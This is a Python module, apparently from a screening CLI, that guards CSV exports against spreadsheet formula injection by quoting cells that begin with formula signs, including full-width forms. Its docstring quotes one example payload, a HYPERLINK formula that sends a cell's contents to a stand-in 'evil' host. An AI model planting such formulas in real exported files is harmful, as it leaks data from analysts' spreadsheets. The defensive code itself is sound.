"""CSV for spreadsheets: a text cell a spreadsheet would run as a formula is escaped.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is read by Excel, LibreOffice and Google Sheets as a
formula, so a party name such as ``=HYPERLINK("http://evil/?"&A1, "x")`` in a screening
file would run in the analyst's spreadsheet. Following the OWASP guidance on CSV injection,
such a cell is written with a single quote in front, which every spreadsheet shows as text.
The same holds when the trigger comes after leading spaces or line breaks, and for the
full-width forms (``＝ ＋ － ＠``) that some spreadsheet locales accept as formula signs.

Only text is escaped: numbers the engine writes itself (scores) are written as they are.
Every CSV the CLI writes goes through :func:`spreadsheet_safe` (or :func:`safe_row`).

>>> spreadsheet_safe("=1+1")
"'=1+1"
>>> spreadsheet_safe("Banco Nacional de Cuba")
'Banco Nacional de Cuba'
>>> safe_row(["-2+3", -0.5, None])
["'-2+3", -0.5, None]
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_TRIGGERS", "safe_row", "spreadsheet_safe"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP), with the
#: full-width forms of the four signs.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_LEADING_BLANKS = " \t\r\n\u00a0\u3000"


def spreadsheet_safe(cell: str) -> str:
    """Return ``cell`` with a single quote in front if a spreadsheet would run it as a formula."""
    if not cell:
        return cell
    if cell[0] in FORMULA_TRIGGERS or cell.lstrip(_LEADING_BLANKS)[:1] in FORMULA_TRIGGERS:
        return "'" + cell
    return cell


def safe_row(cells: Iterable[Any]) -> list[Any]:
    """Return a CSV row with every text cell made :func:`spreadsheet_safe`; others as they are."""
    return [spreadsheet_safe(c) if isinstance(c, str) else c for c in cells]
